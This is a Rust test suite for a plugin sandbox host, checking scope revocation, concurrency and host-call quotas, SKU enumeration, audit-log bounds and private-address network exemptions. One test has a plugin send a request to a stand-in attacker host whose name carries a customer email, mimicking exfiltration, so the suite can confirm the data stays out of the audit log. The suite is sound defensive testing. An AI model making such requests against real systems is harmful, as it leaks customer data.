//! Every way into a connector goes through the same gate, and the smaller holes around it stay
//! shut: health checks follow revocations, count against the concurrency cap and do not run a
//! disabled app; a direct `invoke` needs the topic's scope; `log.write` counts against the
//! host-call quota; `inventory.adjust(sku, 0)` does not tell which SKUs exist; audit lines are
//! bounded and carry no connector-chosen text; a private-address exemption is one connector's
//! and one port's. Real components throughout.

use std::sync::Arc;

use airlock_host::commerce::{ConnectorStorage, StorageQuota};
use airlock_host::db::storage::SqlStorage;
use airlock_host::grants::Scope;
use airlock_host::ids::InstallationId;
use airlock_host::manifest::Topic;
use airlock_host::outbound::NetworkPolicy;
use airlock_host::vault::VaultKey;
use airlock_host::{AbortReason, CallResult, Error, Host, Limits};
use airlock_tests::provider::{Provider, Reply};
use airlock_tests::{
    PauseFirstOrder, Paused, TestDb, TestHost, demo_store, install_probe, plugins, probe, summary,
    wasm,
};

/// A host whose first order read pauses, with the probe (granted `orders:read`) whose health
/// check reads the same order twice.
async fn checked_probe(db: &TestDb, limits: Limits) -> (Arc<Host>, InstallationId, Paused) {
    let mut paused = None;
    let host = TestHost::new(db)
        .limits(limits)
        .commerce(|pool| {
            let (data, handle) = PauseFirstOrder::new(pool);
            paused = Some(handle);
            data
        })
        .build()
        .await;
    let id = install_probe(&host, &demo_store(), &[Scope::OrdersRead]).await;
    let quota = StorageQuota {
        bytes: 1 << 20,
        keys: 100,
    };
    SqlStorage::new(host.db().clone())
        .set(
            &id,
            "health",
            b"orders.get ord_1001;orders.get ord_1001",
            quota,
        )
        .await
        .unwrap();
    (Arc::new(host), id, paused.unwrap())
}

fn spawn_check(host: &Arc<Host>, id: &InstallationId) -> tokio::task::JoinHandle<CallResult> {
    let (host, id) = (host.clone(), id.clone());
    tokio::spawn(async move {
        host.health_check(&demo_store(), id.as_str())
            .await
            .unwrap()
            .result
    })
}

#[tokio::test]
async fn a_health_check_running_when_its_scope_is_revoked_is_denied_at_its_next_call() {
    for db in TestDb::all().await {
        let (host, id, paused) = checked_probe(&db, Limits::default()).await;
        let check = spawn_check(&host, &id);
        paused.reached.await.unwrap();
        host.revoke_scope(&demo_store(), id.as_str(), Scope::OrdersRead, "owner")
            .await
            .unwrap();
        let _ = paused.resume.send(());
        let result = check.await.unwrap();
        let CallResult::Failed { error } = &result else {
            panic!("the check read an order after the revocation: {result:?}");
        };
        assert!(format!("{error:?}").contains("Denied"), "{error:?}");
        db.finish().await;
    }
}

#[tokio::test]
async fn health_checks_count_against_the_concurrency_cap() {
    let db = TestDb::sqlite();
    let limits = Limits {
        max_concurrent: 1,
        ..Limits::default()
    };
    let (host, id, paused) = checked_probe(&db, limits).await;
    let first = spawn_check(&host, &id);
    paused.reached.await.unwrap();
    let second = host.health_check(&demo_store(), id.as_str()).await.unwrap();
    assert_eq!(
        second.result,
        CallResult::Aborted {
            reason: AbortReason::Busy { limit: 1 }
        }
    );
    assert_eq!(second.export, "health-check");
    let _ = paused.resume.send(());
    assert!(matches!(first.await.unwrap(), CallResult::Done { .. }));
    db.finish().await;
}

#[tokio::test]
async fn a_disabled_app_runs_no_health_check_with_its_grant_and_keys() {
    for db in TestDb::all().await {
        let (host, id, paused) = checked_probe(&db, Limits::default()).await;
        drop(paused);
        host.disable(&demo_store(), id.as_str(), "owner")
            .await
            .unwrap();
        let refused = host.health_check(&demo_store(), id.as_str()).await;
        assert!(
            matches!(&refused, Err(Error::NotActive { status, .. }) if status == "disabled"),
            "{:?}",
            refused.map(|r| r.result)
        );
        host.enable(&demo_store(), id.as_str(), "owner")
            .await
            .unwrap();
        // Enabled again, the check runs (its first order read is not paused any more).
        let report = host.health_check(&demo_store(), id.as_str()).await.unwrap();
        assert!(
            matches!(report.result, CallResult::Done { .. }),
            "{report:?}"
        );
        db.finish().await;
    }
}

#[tokio::test]
async fn a_direct_invoke_needs_the_scope_of_its_topic() {
    let db = TestDb::sqlite();
    let host = TestHost::new(&db).build().await;
    let id = install_probe(&host, &demo_store(), &[Scope::InventoryWrite]).await;
    let refused = host
        .invoke(&demo_store(), id.as_str(), Topic::OrderCreated, "ord_1001")
        .await;
    assert!(
        matches!(
            &refused,
            Err(Error::TopicNotGranted {
                scope: Scope::OrdersRead,
                ..
            })
        ),
        "an app without orders:read was told of an order: {:?}",
        refused.map(|r| summary(&r))
    );
    let audit = host.audit(&demo_store(), 20).await.unwrap();
    assert!(!audit.iter().any(|e| e.action == "invoke"), "{audit:#?}");
    db.finish().await;
}

#[tokio::test]
async fn log_lines_count_against_the_host_call_quota() {
    let db = TestDb::sqlite();
    let limits = Limits {
        max_host_calls: 10,
        ..Limits::default()
    };
    let host = TestHost::new(&db).limits(limits).build().await;
    let id = install_probe(&host, &demo_store(), &[Scope::OrdersRead]).await;
    let report = host
        .invoke(
            &demo_store(),
            id.as_str(),
            Topic::OrderCreated,
            "log.lines 50",
        )
        .await
        .unwrap();
    assert!(
        report.logs.len() <= 10,
        "{} lines past a quota of 10 host calls",
        report.logs.len()
    );
    // Ten lines were served as host calls, the next refused; the call ends at the next epoch
    // tick (or returns first, if it is quicker).
    let log = report.accesses.iter().find(|a| a.operation == "log.write");
    assert!(
        log.is_some_and(|a| a.allowed == 10 && a.failed >= 1),
        "{:?}",
        report.accesses
    );
    assert!(
        matches!(
            report.result,
            CallResult::Done { .. }
                | CallResult::Aborted {
                    reason: AbortReason::HostCalls { limit: 10 }
                }
        ),
        "{:?}",
        report.result
    );
    db.finish().await;
}

#[tokio::test]
async fn adjusting_stock_by_zero_does_not_tell_which_skus_exist() {
    let db = TestDb::sqlite();
    let host = TestHost::new(&db).build().await;
    // Write without read, plus the topic's scope so it can be sent an event at all.
    let id = install_probe(
        &host,
        &demo_store(),
        &[Scope::OrdersRead, Scope::InventoryWrite],
    )
    .await;
    let known = probe(
        &host,
        &demo_store(),
        &id,
        "inventory.adjust TEA-ASSAM-250 0",
    )
    .await;
    let unknown = probe(&host, &demo_store(), &id, "inventory.adjust NO-SUCH-SKU 0").await;
    let neighbours = probe(&host, &demo_store(), &id, "inventory.adjust SKU-9 0").await;
    assert_eq!(
        known, unknown,
        "a zero adjustment told a known SKU from a missing one"
    );
    assert_eq!(known, neighbours);
    db.finish().await;
}

/// The HTTP probe installed with its keys, under `network`.
async fn http_probe(db: &TestDb, network: NetworkPolicy) -> (Host, InstallationId) {
    let host = TestHost::new(db)
        .vault(VaultKey::from_bytes([5; 32]))
        .network(network)
        .build()
        .await;
    let installed = host
        .install(&demo_store(), &wasm(plugins::HTTP_PROBE), "test")
        .await
        .unwrap()
        .installation;
    let id = installed.id;
    host.approve(&demo_store(), id.as_str(), &installed.digest, &[], "owner")
        .await
        .unwrap();
    for name in ["api_key", "attach_only"] {
        let write = airlock_host::db::secrets::SecretWrite::Set;
        host.write_secret(
            &demo_store(),
            id.as_str(),
            name,
            "probe_key_0123456789",
            "owner",
            write,
        )
        .await
        .unwrap();
    }
    (host, id)
}

#[tokio::test]
async fn audit_lines_are_bounded_and_hold_no_text_the_connector_chose() {
    for db in TestDb::all().await {
        let (host, id) = http_probe(&db, NetworkPolicy::default()).await;
        let commands = "long-header http://gateway.test:8080/ 65000;\
                        get http://asha-at-example-in.attacker.test/";
        probe(&host, &demo_store(), &id, commands).await;
        let audit = host.audit(&demo_store(), 50).await.unwrap();
        let http: Vec<_> = audit.iter().filter(|e| e.action == "http").collect();
        assert_eq!(http.len(), 2, "{audit:#?}");
        for entry in &audit {
            let line = format!("{entry:?}");
            assert!(line.len() < 2048, "an audit line of {} bytes", line.len());
            assert!(!line.contains("aaaaaaaaaaaaaaaa"), "{line}");
            assert!(
                !line.contains("asha"),
                "customer data in the audit log: {line}"
            );
        }
        db.finish().await;
    }
}

#[tokio::test]
async fn a_private_address_exemption_is_one_connectors_and_one_ports() {
    let db = TestDb::sqlite();
    let gateway = Provider::start().await;
    gateway.answer(|_| Reply::json(200, "{}"));
    let canary = Provider::start().await;
    // The exemption is the example connector's; the HTTP probe declares a name that points
    // at the same local gateway.
    let network = NetworkPolicy::default()
        .allow_private("acme.ship-on-payment", gateway.addr)
        .resolve("gateway.test", 8080, gateway.addr);
    let (host, id) = http_probe(&db, network).await;
    let answer = probe(&host, &demo_store(), &id, "get http://gateway.test:8080/").await;
    assert!(answer.contains("DestinationIpProhibited"), "{answer}");
    assert_eq!(
        gateway.connections(),
        0,
        "another connector's exemption let it in"
    );
    drop(host);
    db.finish().await;
    // Its own exemption opens that port, not another on the same address.
    let db = TestDb::sqlite();
    let network = NetworkPolicy::default()
        .allow_private("test.http-probe", gateway.addr)
        .resolve("gateway.test", 8080, gateway.addr)
        .resolve("rebind.test", 8080, canary.addr);
    let (host, id) = http_probe(&db, network).await;
    let answer = probe(&host, &demo_store(), &id, "get http://gateway.test:8080/").await;
    assert!(answer.starts_with("status 200"), "{answer}");
    let answer = probe(&host, &demo_store(), &id, "get http://rebind.test:8080/").await;
    assert!(answer.contains("DestinationIpProhibited"), "{answer}");
    assert_eq!(canary.connections(), 0, "the exemption opened another port");
    db.finish().await;
}
